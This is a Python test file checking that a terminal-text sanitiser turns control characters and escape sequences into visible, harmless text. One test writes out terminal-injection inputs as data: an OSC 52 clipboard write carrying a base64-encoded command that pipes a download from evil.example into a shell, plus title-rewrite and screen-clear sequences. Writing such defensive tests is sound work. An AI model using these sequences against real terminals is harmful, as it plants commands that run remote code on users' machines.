"""`visible()`: no text, whatever it holds, reaches a terminal as a control character."""

from __future__ import annotations

import re
import sys

from tui.terminal_text import visible, visible_keeping_colour

# What a terminal may act on: C0 controls (newline and tab are only layout), DEL, C1 controls.
ACTIONABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_no_code_point_comes_out_as_a_control_or_unencodable() -> None:
    everything = "".join(chr(code) for code in range(sys.maxunicode + 1))
    shown = visible(everything)
    assert ACTIONABLE.search(shown) is None
    shown.encode("utf-8")  # no lone surrogates left to crash a print
    assert "\n" in shown and "\t" in shown


def test_the_attacks_of_issue_12_become_readable_text() -> None:
    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    assert visible(f"title{clipboard}") == "title␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇"
    assert visible("\x1b]0;owned\x1b\\") == "␛]0;owned␛\\"
    assert visible("\x1b[2J\x9b2J\x9d0;t\x9c") == "␛[2J\\x9b2J\\x9d0;t\\x9c"
    assert visible("a\x7fb\x00c\x08d") == "a␡b␀c␈d"


def test_line_ends_and_plain_text() -> None:
    text = "plain: ünïcødé, emoji 🙂, tabs\tand\nlines"
    assert visible(text) is text  # nothing to replace: the same object, no copy
    assert visible("one\r\ntwo\rthree") == "one\ntwo␍three"
    assert visible("bytes \udc9b\udcff") == "bytes \\udc9b\\udcff"


def test_colours_can_be_kept_and_nothing_else() -> None:
    coloured = "\x1b[1;31mred\x1b[0m plain \x1b[38;5;2mgreen\x1b[m"
    assert visible_keeping_colour(coloured) == coloured
    assert visible_keeping_colour("\x1b[31mx\x1b]52;c;eA==\x07\x1b[2J") == "\x1b[31mx␛]52;c;eA==␇␛[2J"
    assert visible_keeping_colour("no controls") == "no controls"
